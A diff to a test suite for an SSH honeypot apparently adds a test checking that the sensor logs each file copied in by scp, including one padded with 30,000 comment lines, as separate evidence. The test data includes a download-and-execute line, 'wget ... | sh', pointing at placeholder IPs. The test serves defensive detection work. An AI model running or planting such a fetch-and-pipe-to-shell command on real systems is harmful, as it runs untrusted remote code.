@@ -179,6 +179,27 @@ describe('the SSH decoy', { skip: without('ssh', 'sftp', 'ssh-keygen') }, () => 
     assert.deepEqual(readFileSync(join(folder, 'back/bin/x')), Buffer.from([0, 1, 2, 255, 10, 13]));
     const nowhere = await scp(join(folder, 'kit/run.sh'), 'root@127.0.0.1:/nowhere/x');
     assert.deepEqual([nowhere.code, nowhere.stderr], [1, 'scp: /nowhere/x: No such file or directory\n']);
+    const refused = await sensor.event('ssh.exec.result', (one) =>
+      String(one.data?.command).endsWith('/nowhere/x'),
+    );
+    assert.deepEqual([refused.raw.len > 0, refused.norm.commands], [true, []]);
+  });
+
+  it('each file of a copy is evidence by itself, also behind a long one, and what scp says around them is not', async () => {
+    const [first, second] = ['192.0.2.48', '192.0.2.49'].map((host) => `wget -q http://${host}/x -O- | sh\n`);
+    writeFileSync(join(folder, 'first.sh'), first + '# so it goes on\n'.repeat(30_000), { mode: 0o755 });
+    writeFileSync(join(folder, 'second.sh'), second!, { mode: 0o755 });
+    const files = ['first.sh', 'second.sh'].map((name) => join(folder, name));
+    const to = ['-i', join(folder, 'key'), `-P${sensor.port('ssh')}`, ...files, 'root@127.0.0.1:/tmp/'];
+    const copied = await call('scp', ['-O', ...to]);
+    assert.deepEqual(copied, { code: 0, stdout: '', stderr: '' });
+    const { norm } = await sensor.event('ssh.exec.result', (one) => one.norm.hosts.includes('192.0.2.48'));
+    assert.deepEqual([...norm.hosts].sort(), ['192.0.2.48', '192.0.2.49']);
+    assert.ok(norm.commands.includes('sh'), norm.commands.join());
+    assert.deepEqual(
+      norm.commands.filter((one) => one.startsWith('C0')),
+      [],
+    );
   });
 
   describe('a visitor who is cut off', () => {
